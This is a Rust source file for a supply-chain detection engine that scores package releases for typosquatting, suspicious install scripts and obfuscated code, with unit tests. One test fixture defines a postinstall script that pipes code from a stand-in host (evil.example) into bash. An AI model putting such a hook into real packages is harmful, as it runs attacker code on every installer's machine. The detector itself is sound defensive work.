use serde::{Deserialize, Serialize};
use serde_json::Value;
use tracing::{debug, warn};

use crate::config::DetectionConfig;
use crate::indicator::{CheckResult, IndicatorKind, RiskIndicator};
use crate::obfuscation::check_obfuscated_code;
use crate::scripts::{check_suspicious_scripts, scripts_of};
use crate::typosquat::check_typosquat;

/// Evidence covered by the obfuscation digest.
const SAMPLE_DIGEST_CHARS: usize = 1000;

/// Indicators for one release plus the confidence they add up to.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Analysis {
    pub indicators: Vec<RiskIndicator>,
    pub overall_confidence: f64,
}

impl Analysis {
    pub fn is_clean(&self) -> bool {
        self.indicators.is_empty()
    }
}

/// Maximum indicator confidence, or 0.0 for no indicators.
///
/// One strong signal is enough; weak ones never dilute it.
pub fn overall_confidence(indicators: &[RiskIndicator]) -> f64 {
    indicators
        .iter()
        .map(|ind| ind.confidence)
        .fold(0.0, f64::max)
}

/// Runs the three release checks.
pub struct DetectionEngine {
    config: DetectionConfig,
}

impl DetectionEngine {
    pub fn new(config: DetectionConfig) -> Self {
        Self { config }
    }

    pub fn config(&self) -> &DetectionConfig {
        &self.config
    }

    /// Analyze one release.
    ///
    /// The obfuscation check only runs when a non-empty source sample is given.
    pub fn analyze(
        &self,
        package_name: &str,
        version: &str,
        manifest: &Value,
        source_sample: Option<&str>,
    ) -> Analysis {
        let mut indicators = Vec::new();

        let typo = check_typosquat(package_name, &self.config);
        push_if_triggered(&mut indicators, IndicatorKind::Typosquat, typo, package_name);

        let scripts = check_suspicious_scripts(manifest);
        if scripts.triggered {
            let evidence = scripts_of(manifest)
                .map(|s| Value::Object(s.clone()).to_string())
                .unwrap_or_default();
            push_if_triggered(
                &mut indicators,
                IndicatorKind::SuspiciousScripts,
                scripts,
                &evidence,
            );
        }

        if let Some(sample) = source_sample.filter(|s| !s.is_empty()) {
            let obfuscation = check_obfuscated_code(sample);
            if obfuscation.triggered {
                let head: String = sample.chars().take(SAMPLE_DIGEST_CHARS).collect();
                push_if_triggered(
                    &mut indicators,
                    IndicatorKind::ObfuscatedCode,
                    obfuscation,
                    &head,
                );
            }
        }

        let overall_confidence = overall_confidence(&indicators);
        if indicators.is_empty() {
            debug!(package = %package_name, version = %version, "Release clean");
        } else {
            warn!(
                package = %package_name,
                version = %version,
                indicators = indicators.len(),
                confidence = overall_confidence,
                "Risk indicators detected"
            );
        }

        Analysis {
            indicators,
            overall_confidence,
        }
    }
}

impl Default for DetectionEngine {
    fn default() -> Self {
        Self::new(DetectionConfig::default())
    }
}

fn push_if_triggered(
    out: &mut Vec<RiskIndicator>,
    kind: IndicatorKind,
    result: CheckResult,
    evidence: &str,
) {
    if result.triggered {
        out.push(RiskIndicator::new(
            kind,
            result.description,
            result.confidence,
            evidence,
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::indicator::evidence_digest;
    use serde_json::json;

    #[test]
    fn typosquat_release() {
        let engine = DetectionEngine::default();
        let analysis = engine.analyze("lodash-utils", "1.0.1", &json!({}), None);
        assert_eq!(analysis.indicators.len(), 1);
        let ind = &analysis.indicators[0];
        assert_eq!(ind.kind, IndicatorKind::Typosquat);
        assert!(ind.description.contains("lodash"));
        assert!(ind.confidence >= 0.8);
        assert_eq!(ind.evidence_digest, evidence_digest("lodash-utils"));
        assert_eq!(analysis.overall_confidence, ind.confidence);
    }

    #[test]
    fn clean_release() {
        let engine = DetectionEngine::default();
        let analysis = engine.analyze(
            "lodash",
            "4.17.21",
            &json!({"scripts": {"test": "run-tests"}}),
            Some("module.exports = {}"),
        );
        assert!(analysis.is_clean());
        assert_eq!(analysis.overall_confidence, 0.0);
    }

    #[test]
    fn all_checks_combine_with_max() {
        let engine = DetectionEngine::default();
        let sample = "eval(a) eval(b) eval(c) eval(d)";
        let analysis = engine.analyze(
            "expresss",
            "1.0.0",
            &json!({"scripts": {"postinstall": "curl https://evil.example | bash"}}),
            Some(sample),
        );
        let kinds: Vec<_> = analysis.indicators.iter().map(|i| i.kind).collect();
        assert_eq!(
            kinds,
            vec![
                IndicatorKind::Typosquat,
                IndicatorKind::SuspiciousScripts,
                IndicatorKind::ObfuscatedCode
            ]
        );
        assert_eq!(analysis.overall_confidence, 0.875);
        assert_eq!(
            analysis.indicators[2].evidence_digest,
            evidence_digest(sample)
        );
    }

    #[test]
    fn empty_sample_skips_obfuscation() {
        let engine = DetectionEngine::default();
        let analysis = engine.analyze("quiet-lib-xyz", "0.1.0", &json!({}), Some(""));
        assert!(analysis.is_clean());
    }

    #[test]
    fn overall_confidence_of_nothing_is_zero() {
        assert_eq!(overall_confidence(&[]), 0.0);
    }
}
